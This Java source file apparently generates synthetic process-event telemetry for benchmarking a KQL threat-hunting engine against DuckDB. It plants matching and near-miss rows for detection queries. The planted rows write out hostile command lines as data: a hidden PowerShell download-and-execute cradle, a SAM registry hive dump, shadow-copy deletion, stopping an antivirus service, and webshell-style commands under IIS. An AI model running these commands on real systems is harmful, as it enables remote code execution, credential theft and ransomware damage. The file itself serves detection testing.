package dev.kqlhunt.bench;

import dev.kqlhunt.exec.Table;
import dev.kqlhunt.exec.TableBuilder;
import dev.kqlhunt.sample.BackgroundTelemetry;
import dev.kqlhunt.sample.JsonLinesRows;
import dev.kqlhunt.sample.ProcessEventFactory;
import dev.kqlhunt.sample.ProcessImage;
import dev.kqlhunt.symbols.ColumnSymbol;
import dev.kqlhunt.symbols.SchemaRegistry;
import dev.kqlhunt.symbols.TableSchema;
import java.io.BufferedWriter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;

/**
 * The engine benchmark's data: {@code rows} DeviceProcessEvents launches of a 500-device fleet over
 * the eight days before {@link #NOW}, from {@link BackgroundTelemetry}, with one planted row every
 * {@link #PLANT_EVERY} rows cycling through {@link Plant}: hits and near misses of the seed rule and of
 * the five corpus queries of {@link EngineQueries}. The same seed gives the same rows, so the JSON-lines
 * file (DuckDB's input) and the in-memory table (kqlhunt's) hold the same data, made in one pass.
 */
final class EngineData {
  /** The fixed "now" of every query on both sides ({@code now()}, {@code ago()}). */
  static final Instant NOW = Instant.parse("2026-11-20T12:00:00Z");
  static final Instant FROM = NOW.minus(Duration.ofDays(8));
  static final int PLANT_EVERY = 2000;
  static final long SEED = 20261120L;
  static final int DEVICES = 500;

  private EngineData() {}

  /** The DeviceProcessEvents schema of the built-in catalogue (the columns both sides load). */
  static TableSchema schema() {
    return SchemaRegistry.builtIn().table("DeviceProcessEvents");
  }

  /**
   * Generates the rows; writes them as JSON lines to {@code jsonl} unless the file exists with the
   * recorded row count, and returns them as a kqlhunt table when {@code buildTable} is set.
   */
  static Table generate(int rows, Path jsonl, boolean buildTable) throws IOException {
    boolean write = !isComplete(jsonl, rows);
    List<ColumnSymbol> columns = schema().columns();
    TableBuilder table = buildTable ? new TableBuilder(columns, rows) : null;
    if (!write && !buildTable) return null;
    BackgroundTelemetry background = new BackgroundTelemetry(SEED, DEVICES);
    SplittableRandom plantRandom = new SplittableRandom(SEED ^ 0x5eed);
    Path tmp = jsonl.resolveSibling(jsonl.getFileName() + ".tmp");
    StringBuilder line = new StringBuilder(4096);
    try (BufferedWriter out = write ? Files.newBufferedWriter(tmp, StandardCharsets.UTF_8) : null) {
      for (int i = 0; i < rows; i++) {
        Map<String, Object> row = background.launch(i, rows, FROM, NOW);
        if (i % PLANT_EVERY == PLANT_EVERY / 2) {
          row = Plant.values()[(i / PLANT_EVERY) % Plant.values().length].row(background, plantRandom, row);
        }
        if (table != null) table.addRow(row);
        if (out != null) {
          line.setLength(0);
          JsonLinesRows.appendLine(row, line);
          out.append(line);
        }
      }
    }
    if (write) {
      Files.move(tmp, jsonl, StandardCopyOption.REPLACE_EXISTING);
      Files.writeString(marker(jsonl), Integer.toString(rows));
    }
    return table == null ? null : table.build();
  }

  private static boolean isComplete(Path jsonl, int rows) throws IOException {
    Path m = marker(jsonl);
    return Files.exists(jsonl) && Files.exists(m) && Files.readString(m).trim().equals(Integer.toString(rows));
  }

  private static Path marker(Path jsonl) {
    return jsonl.resolveSibling(jsonl.getFileName() + ".rows");
  }

  static ProcessImage common(String fileName) {
    for (ProcessImage p : ProcessImage.COMMON) if (p.fileName().equals(fileName)) return p;
    throw new IllegalArgumentException("no common image " + fileName);
  }

  private static final ProcessImage W3WP = new ProcessImage("C:\\Windows\\System32\\inetsrv", "w3wp.exe",
      "Microsoft Corporation", "Internet Information Services", "10.0.19041.1", "w3wp.exe", "IIS Worker Process");
  private static final ProcessImage WINLOGON = new ProcessImage("C:\\Windows\\System32", "winlogon.exe",
      "Microsoft Corporation", "Microsoft\u00ae Windows\u00ae Operating System", "10.0.19041.1", "WINLOGON.EXE",
      "Windows Logon Application");

  /**
   * Rows planted among the background: matches and near misses of the six benchmark queries, so each
   * returns rows and term-boundary semantics are exercised on both sides.
   */
  enum Plant {
    RDP_PLUS(ProcessImage.REMOTE_DESKTOP_PLUS, common("explorer.exe"), "\"C:\\Users\\Public\\Downloads\\rdp.exe\" /v:srv01"),
    // "www.donkz.nl.test" still has "www.donkz.nl": the '.' after the needle is not a term character.
    RDP_PLUS_SUFFIXED(ProcessImage.REMOTE_DESKTOP_PLUS.withVersionInfo("www.donkz.nl.test", "Remote Desktop Plus", "rdp.exe.mui"),
        common("explorer.exe"), "rdp.exe"),
    RDP_NEAR_MISS_COMPANY(ProcessImage.REMOTE_DESKTOP_PLUS.withVersionInfo("xwww.donkz.nl", "Remote Desktop Plus", "rdp.exe"),
        common("explorer.exe"), "rdp.exe"),
    RDP_NEAR_MISS_PRODUCT(ProcessImage.REMOTE_DESKTOP_PLUS.withVersionInfo("www.donkz.nl", "Remote  Desktop Plus", "rdp.exe"),
        common("explorer.exe"), "rdp.exe"),
    RDP_NEAR_MISS_FILE(ProcessImage.REMOTE_DESKTOP_PLUS.withVersionInfo("www.donkz.nl", "Remote Desktop Plus", "myrdp.exe"),
        common("explorer.exe"), "rdp.exe"),
    PS_DOWNLOAD(common("powershell.exe"), common("cmd.exe"),
        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')\""),
    PS_BITS(common("powershell.exe"), common("explorer.exe"), "powershell.exe Start-BitsTransfer -Source https://example.org/x"),
    PS_NEAR_MISS(common("powershell.exe"), common("explorer.exe"), "powershell.exe -File C:\\IEXplore\\httpx-check.ps1"),
    LAZAGNE(common("reg.exe"), common("cmd.exe"), "reg.exe save hklm\\sam C:\\Windows\\Temp\\sam.save"),
    LAZAGNE_NEAR_MISS(common("reg.exe"), common("cmd.exe"), "reg.exe save hklm\\samx C:\\Windows\\Temp\\x.save"),
    WEBSHELL_WHOAMI(common("whoami.exe"), W3WP, "whoami.exe /all"),
    WEBSHELL_CMD(common("cmd.exe"), W3WP, "cmd.exe /c \"cd /d C:\\inetpub\\wwwroot & dir\""),
    RECYCLER(common("cmd.exe"), common("explorer.exe"), "cmd.exe /c C:\\RECYCLER\\S-1-5-21-1\\svc.exe"),
    ROBBINHOOD(common("cmd.exe"), WINLOGON, "cmd.exe /c net stop \"Sophos Agent\" /y"),
    ROBBINHOOD_VSS(common("cmd.exe"), WINLOGON, "cmd.exe /c vssadmin.exe delete shadows /all /quiet"),
    ROBBINHOOD_NEAR_MISS(common("cmd.exe"), WINLOGON, "cmd.exe /c network-check.bat");

    private final ProcessImage image;
    private final ProcessImage parent;
    private final String commandLine;

    Plant(ProcessImage image, ProcessImage parent, String commandLine) {
      this.image = image;
      this.parent = parent;
      this.commandLine = commandLine;
    }

    /** The planted row, on a device and at the time of the background row it replaces. */
    Map<String, Object> row(BackgroundTelemetry bg, SplittableRandom random, Map<String, Object> replaced) {
      List<ProcessEventFactory.Device> devices = bg.devices();
      // A few devices carry most plants, so the seed rule's summarize groups several rows.
      ProcessEventFactory.Device device = devices.get(random.nextInt(7));
      Instant time = (Instant) replaced.get("Timestamp");
      String parentCommandLine = "\"" + parent.path() + "\"";
      return bg.factory().row(new ProcessEventFactory.Launch(
          device, time, image, parent, commandLine, parentCommandLine, "contoso", "helpdesk"));
    }
  }
}
